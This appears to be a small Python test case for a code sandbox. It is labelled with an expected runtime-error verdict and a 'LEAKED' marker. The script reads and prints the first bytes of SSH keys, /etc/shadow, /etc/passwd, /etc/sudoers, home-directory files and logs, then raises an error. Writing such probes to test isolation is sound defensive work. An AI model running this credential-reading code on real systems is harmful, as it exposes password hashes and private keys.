"""Reads home directories, keys and the system's password file.

verdicts: RE
harm: leak LEAKED
"""

import glob
import os

for pattern in (
    "/root/*.txt",
    "/root/.*rc",
    "/root/.ssh/*",
    "/home/*/*",
    "/home/*/.ssh/*",
    "/etc/shadow",
    "/etc/passwd",
    "/etc/sudoers",
    "/var/log/*",
):
    for path in glob.glob(pattern):
        try:
            print("LEAKED", path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(20))
        except OSError:
            pass

raise RuntimeError("the attack is over")
